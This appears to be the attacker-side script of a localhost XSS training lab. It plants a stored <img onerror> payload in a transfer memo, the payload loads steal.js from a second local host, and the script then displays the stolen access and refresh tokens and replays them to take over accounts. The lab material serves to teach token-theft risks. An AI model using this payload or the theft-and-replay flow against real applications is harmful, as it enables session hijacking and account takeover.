// The XSS lab's attacker page: plants the memo, shows the loot, replays it. Plain ES module.

const TOKENS = 'http://localhost:8082';
// An <img> that fails to load runs its onerror handler: inline script, which loads steal.js into
// the page that renders the memo as HTML. Well under the API's 200 characters for a memo.
export const MEMO = `<img src="data:," onerror="document.head.append(Object.assign(document.createElement('script'),{src:'http://127.0.0.1:8090/xss/steal.js'}))">`;

const $ = id => document.getElementById(id);
let loot = [];

async function api(method, path, { token, body } = {}) {
  const headers = {};
  if (token) headers.Authorization = `Bearer ${token}`;
  if (body) headers['Content-Type'] = 'application/json';
  try {
    const res = await fetch(`${TOKENS}${path}`, { method, headers, body: body && JSON.stringify(body), cache: 'no-store' });
    const text = await res.text();
    let data = null;
    try { data = JSON.parse(text); } catch { data = { text }; }
    return { status: res.status, data };
  } catch (e) {
    return { status: 0, data: { detail: String(e) } };
  }
}

async function plant() {
  $('plant-status').textContent = 'logging in as bob…';
  const login = await api('POST', '/auth/login', { body: { username: 'bob', password: 'bob-pw' } });
  if (login.status !== 200) {
    $('plant-status').textContent = login.status === 0
      ? 'the token stack did not answer this site (with TOKEN_TRANSPORT=cookie it answers only the dashboard\'s origin): ' +
        'plant before switching, or as any API client (curl)'
      : `login failed: ${login.status} ${login.data?.detail || ''}`;
    $('plant-status').dataset.result = 'failed';
    return;
  }
  const r = await api('POST', '/api/transfers', { token: login.data.access_token, body: { to: 'alice', amount: 0.01, memo: MEMO } });
  $('plant-status').textContent = r.status === 201 ? `planted: transfer ${r.data.id} (201)` : `refused: ${r.status} ${r.data?.detail || ''}`;
  $('plant-status').dataset.result = r.status === 201 ? 'planted' : 'failed';
}

/** One line of nginx's lab_collected log: {received, origin, body}, the body being steal.js's JSON. */
function parse(line) {
  try {
    const entry = JSON.parse(line);
    return { received: entry.received, ...JSON.parse(entry.body) };
  } catch {
    return null;
  }
}

async function readLoot() {
  try {
    const res = await fetch('../loot.log', { cache: 'no-store' });
    loot = (await res.text()).split('\n').filter(Boolean).map(parse).filter(Boolean);
  } catch {
    return;
  }
  if (loot.length === 0) return;
  $('loot').replaceChildren(...loot.map(item => {
    const tr = document.createElement('tr');
    for (const text of [item.received, item.what, `:${item.port}`, JSON.stringify(item.value)]) {
      const td = document.createElement('td');
      td.textContent = text;
      tr.append(td);
    }
    return tr;
  }));
}

const latest = what => [...loot].reverse().find(item => item.what === what && item.port === '8082')?.value;

async function replayAccess() {
  const header = latest('authorization_header');
  const token = header ? header.replace(/^Bearer /, '') : latest('access_token');
  if (!token) { $('replay-access-status').textContent = 'no access token stolen yet'; return; }
  const r = await api('GET', '/api/me', { token });
  $('replay-access-status').textContent = r.status === 200
    ? `200: token-app answered as ${r.data.username}, from this other site`
    : `${r.status}: ${r.data?.detail || ''}`;
}

async function replayRefresh() {
  const refreshToken = latest('refresh_token');
  if (!refreshToken) { $('replay-refresh-status').textContent = 'no refresh token stolen yet'; return; }
  const r = await api('POST', '/auth/refresh', { body: { refresh_token: refreshToken } });
  $('replay-refresh-status').textContent = r.status === 200
    ? `200: a new access token for ${r.data.username}, minted by the attacker (and alice's refresh token is now spent)`
    : `${r.status}: ${r.data?.detail || ''}`;
}

$('memo').textContent = MEMO;
$('plant').addEventListener('click', plant);
$('replay-access').addEventListener('click', replayAccess);
$('replay-refresh').addEventListener('click', replayRefresh);
readLoot();
setInterval(readLoot, 1000);
document.body.dataset.state = 'ready';
